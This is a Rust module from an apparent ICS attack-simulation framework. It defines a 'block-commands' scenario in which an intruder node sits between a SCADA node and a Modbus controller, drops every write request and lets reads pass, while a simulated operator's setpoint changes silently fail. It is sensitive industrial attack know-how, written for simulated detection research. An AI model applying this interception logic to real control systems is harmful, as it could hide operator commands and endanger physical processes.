//! Blocked commands: what the operator writes does not arrive, while the readings go on as if all were
//! well.

use std::cell::RefCell;
use std::rc::Rc;

use tokio_modbus::Request;

use super::{Attack, Needs, moved};
use crate::net::modbus::{Fate, Tamper};
use crate::plant::Role;
use crate::plant::points::Part;
use crate::stage::{Outcome, Stage};

pub static ATTACK: Attack = Attack {
    name: "block-commands",
    about: "lets the operator's writes to a controller vanish, while reads pass",
    technique: moved("T0803", "T1691.001"),
    acceptable: &["T0813", "T0814", "T0830"],
    grade: "B",
    kind: "fast",
    proto: "modbus",
    variants: &["relay", "reset"],
    needs: Needs::Wire,
    seconds: [1210, 230, 60],
    run: |stage| Box::pin(run(stage)),
};

/// Lets writes vanish.
struct Filter;

impl Tamper for Filter {
    fn request(&mut self, _: u8, request: &mut Request<'static>) -> Fate {
        match request {
            Request::WriteSingleCoil(..)
            | Request::WriteSingleRegister(..)
            | Request::WriteMultipleCoils(..)
            | Request::WriteMultipleRegisters(..)
            | Request::MaskWriteRegister(..)
            | Request::ReadWriteMultipleRegisters(..) => Fate::Vanishes,
            _ => Fate::Passes,
        }
    }
}

async fn run(mut stage: Stage) -> Outcome {
    let intruder = stage.stranger();
    // The operator's work is everyday life, not part of the attack; without it there is nothing to block.
    let scada = stage.world.node(Role::Scada);
    let target = stage.point(Part::Setpoint);
    let controller = stage.at(&target);
    let filter = Rc::new(RefCell::new(Filter));
    let relay = stage.is("relay");
    if relay {
        stage.intercept(scada.ip(), controller, filter, Some(&intruder));
    } else {
        stage.overhear(scada.ip(), controller, filter, &intruder);
    }
    let (tries, pace) = stage.by((6, 195.0), (6, 30.0), (5, 3.5));
    for _ in 0..tries {
        stage.pause(pace).await;
        let point = target.point;
        let value = stage.rng.within(point.low, point.high);
        // The operator notices that nothing happens, and tries once more.
        for _ in 0..2 {
            if scada.set(&target, value).await.is_ok() {
                break;
            }
            stage.pause(1.5).await;
        }
        stage.changed(format!("{controller} unit {} {} did not become {value:.3}", target.unit, point.name));
        if relay {
            stage.poison(scada.ip(), controller, &intruder);
        }
    }
    if relay {
        stage.restore(scada.ip(), controller, &intruder);
    }
    stage.release(scada.ip(), controller);
    stage.recovers(30.0);
    Ok(())
}
